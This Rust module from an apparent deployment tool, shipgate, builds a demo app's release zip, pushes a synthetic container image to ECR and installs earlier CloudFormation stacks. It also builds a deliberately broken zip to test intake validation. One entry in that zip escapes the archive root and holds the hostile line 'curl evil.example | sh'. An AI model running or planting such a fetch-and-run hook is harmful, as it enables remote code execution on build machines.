//! What an integrator's build does for the demo's sample app (`examples/orders`), as a library
//! for `shipgate-example` and the end-to-end test.
//!
//! It pushes the app's image to the source account's registry (found the way shipgate finds it:
//! `ecr:GetAuthorizationToken`, then the registry endpoint map), then writes the release zip with
//! the pushed digest in `release.json`, and a broken variant with several problems at once.
//!
//! [`install_previous`] stands for the app's history before shipgate: one of its stacks at an
//! earlier version, created directly with CloudFormation in each environment account, so the
//! first release through shipgate has a previous Lambda version to shift from.

use std::collections::BTreeMap;
use std::io::Write;
use std::path::{Path, PathBuf};

use anyhow::{Context, Result};
use aws_config::SdkConfig;
use bytes::Bytes;
use serde_json::{Value, json};
use shipgate::registry::{ecr_registry, media_type};

/// What [`build`] wrote.
#[derive(Debug, Clone)]
pub struct BuiltRelease {
    /// The release zip an integrator drops.
    pub good: PathBuf,
    /// The same release with five problems (what intake must reject).
    pub broken: PathBuf,
    /// The manifest written into the good zip (`images[].digest` as pushed).
    pub manifest: Value,
    /// `repository@digest` of each image pushed, with the registry host.
    pub pushed: Vec<String>,
}

/// Builds `version` of the sample app in `app`: pushes its image with `sdk`'s account's registry
/// (`registry_endpoints`: ECR host → local registry URL, empty in AWS), writes both zips to `out`.
pub async fn build(
    sdk: &SdkConfig,
    registry_endpoints: &BTreeMap<String, String>,
    app: &Path,
    version: &str,
    out: &Path,
) -> Result<BuiltRelease> {
    let mut manifest: Value = serde_json::from_slice(&std::fs::read(app.join("release.json"))?)
        .context("examples release.json is JSON")?;
    manifest["version"] = json!(version);

    let registry = ecr_registry(
        &aws_sdk_ecr::Client::new(sdk),
        reqwest::Client::new(),
        registry_endpoints,
    )
    .await?;
    let mut pushed = Vec::new();
    let images = manifest["images"].as_array_mut().context("images")?;
    for image in images.iter_mut() {
        let repo = image["repository"]
            .as_str()
            .context("repository")?
            .to_owned();
        image["tag"] = json!(version);
        let digest = push_image(&registry, &repo, version).await?;
        pushed.push(format!("{}/{repo}@{digest}", registry.host()));
        image["digest"] = json!(digest);
    }

    std::fs::create_dir_all(out)?;
    let name = manifest["application"].as_str().unwrap_or("app").to_owned();
    let good = out.join(format!("{name}-{version}.zip"));
    // Every file the manifest names: its templates and its checks.
    let mut files: Vec<String> = manifest["templates"]
        .as_array()
        .context("templates")?
        .iter()
        .filter_map(|t| t["path"].as_str().map(str::to_owned))
        .collect();
    files.extend(manifest["checks"].as_str().map(str::to_owned));
    write_zip(&good, app, &manifest, &files, &[])?;

    // The broken variant: an unknown field, a malformed digest, a template that is not in the
    // archive, a path that escapes the archive root, and no integrator email.
    let mut broken = manifest.clone();
    broken["priority"] = json!("urgent");
    if let Some(image) = broken["images"]
        .as_array_mut()
        .and_then(|images| images.first_mut())
    {
        image["digest"] = json!("sha256:1234");
    } else {
        // An application without images: a malformed digest on an image that is not there.
        broken["images"] =
            json!([{"name": "x", "repository": "x", "tag": "1", "digest": "sha256:1234"}]);
    }
    broken["templates"]
        .as_array_mut()
        .context("templates")?
        .push(json!({"path": "templates/database.yaml", "stack": "database"}));
    broken["integrator"]["email"] = json!("not-an-email");
    let broken_path = out.join(format!("{name}-{version}-broken.zip"));
    write_zip(
        &broken_path,
        app,
        &broken,
        &files,
        &[("../deploy-hook.sh", b"#!/bin/sh\ncurl evil.example | sh\n")],
    )?;
    Ok(BuiltRelease {
        good,
        broken: broken_path,
        manifest,
        pushed,
    })
}

/// A small single-arch OCI image: one config blob, one layer of deterministic bytes.
async fn push_image(
    registry: &shipgate::registry::Registry,
    repo: &str,
    tag: &str,
) -> Result<String> {
    let layer: Vec<u8> = (0..64 * 1024u32)
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 24) as u8 ^ tag.len() as u8)
        .collect();
    let layer_size = layer.len();
    let layer_digest = registry.push_blob(repo, Bytes::from(layer)).await?;
    let config = serde_json::to_vec(&json!({
        "architecture": "arm64", "os": "linux",
        "config": {"Labels": {"org.opencontainers.image.version": tag}},
        "rootfs": {"type": "layers", "diff_ids": [layer_digest.as_str()]}
    }))?;
    let config_size = config.len();
    let config_digest = registry.push_blob(repo, Bytes::from(config)).await?;
    let manifest = serde_json::to_vec(&json!({
        "schemaVersion": 2,
        "mediaType": media_type::OCI_MANIFEST,
        "config": {"mediaType": media_type::OCI_CONFIG, "digest": config_digest.as_str(), "size": config_size},
        "layers": [{"mediaType": media_type::OCI_LAYER_GZIP, "digest": layer_digest.as_str(), "size": layer_size}]
    }))?;
    let digest = registry
        .put_manifest(repo, tag, media_type::OCI_MANIFEST, Bytes::from(manifest))
        .await?;
    Ok(digest.as_str().to_owned())
}

fn write_zip(
    path: &Path,
    app: &Path,
    manifest: &Value,
    files: &[String],
    extra: &[(&str, &[u8])],
) -> Result<()> {
    let mut zip = zip::ZipWriter::new(std::fs::File::create(path)?);
    let options = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    zip.start_file("release.json", options)?;
    zip.write_all(&serde_json::to_vec_pretty(manifest)?)?;
    for entry in files {
        zip.start_file(entry.as_str(), options)?;
        zip.write_all(
            &std::fs::read(app.join(entry)).with_context(|| format!("reading {entry}"))?,
        )?;
    }
    for (name, bytes) in extra {
        zip.start_file(*name, options)?;
        zip.write_all(bytes)?;
    }
    zip.finish()?;
    Ok(())
}

/// Creates the app's `stack` (a template of `release.json`) at `version` with CloudFormation in
/// each environment (`(environment, role ARN to act with)`), as it was deployed before shipgate:
/// stack `<application>-<environment>-<stack>`, its parameters from `release.json` (release
/// version and environment only). A stack that exists already is left as it is. Returns the
/// stacks created.
pub async fn install_previous(
    sdk: &SdkConfig,
    app: &Path,
    stack: &str,
    version: &str,
    environments: &[(String, String)],
) -> Result<Vec<String>> {
    let manifest: Value = serde_json::from_slice(&std::fs::read(app.join("release.json"))?)
        .context("examples release.json is JSON")?;
    let application = manifest["application"].as_str().context("application")?;
    let entry = manifest["templates"]
        .as_array()
        .context("templates")?
        .iter()
        .find(|t| t["stack"] == stack)
        .with_context(|| format!("release.json has no template for stack {stack}"))?;
    let path = entry["path"].as_str().context("path")?;
    let body =
        std::fs::read_to_string(app.join(path)).with_context(|| format!("reading {path}"))?;
    let mut created = Vec::new();
    for (environment, role_arn) in environments {
        let parameters = entry["parameters"]
            .as_object()
            .into_iter()
            .flatten()
            .map(|(key, value)| {
                let value = value.as_str().unwrap_or_default();
                let resolved = match value {
                    "${release.version}" => version.to_owned(),
                    "${environment}" => environment.clone(),
                    other if other.contains("${") => anyhow::bail!(
                        "{stack}: parameter {key} is {other}: only ${{release.version}} and \
                         ${{environment}} can be installed without a release"
                    ),
                    other => other.to_owned(),
                };
                Ok(aws_sdk_cloudformation::types::Parameter::builder()
                    .parameter_key(key)
                    .parameter_value(resolved)
                    .build())
            })
            .collect::<Result<Vec<_>>>()?;
        let name = format!("{application}-{environment}-{stack}");
        let cf = aws_sdk_cloudformation::Client::new(
            &shipgate::aws::assume_role(sdk, role_arn, "shipgate-example").await,
        );
        let exists = cf.describe_stacks().stack_name(&name).send().await.is_ok();
        if exists {
            continue;
        }
        cf.create_stack()
            .stack_name(&name)
            .template_body(&body)
            .set_parameters(Some(parameters))
            .send()
            .await
            .with_context(|| format!("creating {name} in {environment}"))?;
        let mut status = String::new();
        for _ in 0..120 {
            let out = cf.describe_stacks().stack_name(&name).send().await?;
            status = out
                .stacks()
                .first()
                .and_then(|s| s.stack_status())
                .map(|s| s.as_str().to_owned())
                .unwrap_or_default();
            if !status.ends_with("_IN_PROGRESS") {
                break;
            }
            tokio::time::sleep(std::time::Duration::from_millis(500)).await;
        }
        anyhow::ensure!(
            status == "CREATE_COMPLETE",
            "{name} in {environment} is {status}"
        );
        created.push(format!("{name} ({environment}, {version})"));
    }
    Ok(created)
}
